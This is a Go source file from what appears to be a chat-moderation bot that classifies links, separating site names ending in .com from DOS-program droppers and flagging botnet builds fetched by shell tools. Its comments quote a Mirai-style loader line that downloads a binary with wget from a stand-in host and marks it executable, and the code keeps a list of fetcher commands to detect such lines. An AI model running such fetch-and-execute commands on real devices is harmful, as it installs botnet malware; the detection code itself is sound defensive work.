package bot

import (
	"strings"

	"github.com/immunebot/immune/bot/linkx"
)

// siteInPath reports a link's last segment that names a site or a mail
// address rather than a file: it ends in .com, the ending of sites and of
// MS-DOS programs alike, and is spelled as a host name (labels of
// letters, digits and hyphens) or as a mail address or message id
// (CAH2-Wzm…@mail.gmail.com). Lookup, archive and list sites end their
// links so (whois.domaintools.com/example.com,
// urlscan.io/domain/example.com, …/message-id/…@mail.gmail.com). A
// one-label name droppers take (setup.com, update.com, invoice.com) and a
// name with a document's or a picture's ending inside (scan.pdf.com) are
// still read as the programs they would be.
func siteInPath(file string) bool {
	if !endsDotCom(file) {
		return false // most files: no lower-case copy read through (speed50b)
	}
	stem, ok := strings.CutSuffix(strings.ToLower(file), ".com")
	if !ok {
		return false
	}
	if at := strings.LastIndexByte(stem, '@'); at >= 0 {
		return at > 0 && hostLabels(stem[at+1:])
	}
	if !hostLabels(stem) {
		return false
	}
	dot := strings.LastIndexByte(stem, '.')
	if dot < 0 {
		return !(dropperNames[stem] || dropperWords[stem] || codeDropperFirst[stem] || codeDropperAny[stem])
	}
	return !innerExts[stem[dot+1:]]
}

// hostLabels reports a name of one or more dot-separated labels of ASCII
// letters, digits and inner hyphens.
func hostLabels(s string) bool {
	if s == "" {
		return false
	}
	for label := range strings.SplitSeq(s, ".") {
		if label == "" || len(label) > 63 || label[0] == '-' || label[len(label)-1] == '-' {
			return false
		}
		for i := 0; i < len(label); i++ {
			if c := label[i]; !(c >= 'a' && c <= 'z' || c >= '0' && c <= '9' || c == '-') {
				return false
			}
		}
	}
	return true
}

// tlsArchName reports a link over TLS to a named site whose last segment
// is a processor's name alone (win.rustup.rs/x86_64, a project's
// redirect to its build for that processor): botnets name their builds
// so, but serve them over plain HTTP, mostly from bare addresses, to
// devices that lack TLS. A name with an ending (bins/x86.sh, sora.arm7)
// is judged as before. A link written with no scheme that a fetcher on
// its line fetches (wget botnet-cdn.xyz/bins/x86: shellFetched) is not
// over TLS: rev38c.
func tlsArchName(l *linkx.Link, file, clean string) bool {
	return overTLS(l) && !shellFetched(clean, l) && !l.IP.IsValid() && l.Port == "" && l.Domain != "" && strings.IndexByte(file, '.') < 0
}

// shellFetchers are the commands a device's loader fetches a build with
// (lower case): wget and curl read an address with no scheme as
// http://, tftp and ftpget speak no HTTP at all.
var shellFetchers = []string{"wget", "curl", "tftp", "ftpget"}

// shellFetched reports a link written with no scheme that a shell's
// fetcher before it on its line fetches ("cd /tmp; wget
// botnet-cdn.xyz/bins/x86; chmod 777 x86"). The chat app's browser,
// which a bare link is opened in and served HTTPS by (overTLS), is not
// what fetches it: wget and curl fetch it over plain HTTP, as a botnet
// serves its builds to devices that lack TLS. Of the dl38 probes,
// Mirai's loader lines typed bare were allowed where the same lines
// written http:// are warned (BENCHMARKS.md, rev38c).
func shellFetched(clean string, l *linkx.Link) bool {
	start, end := l.Span()
	if l.Scheme != "" || l.Carried || end <= start || end > len(clean) {
		return false
	}
	before := clean[max(0, start-commandWindow):start]
	if i := strings.LastIndexByte(before, '\n'); i >= 0 {
		before = before[i+1:]
	}
	for _, f := range shellFetchers {
		if lastWordFold(before, f) >= 0 {
			return true
		}
	}
	return false
}
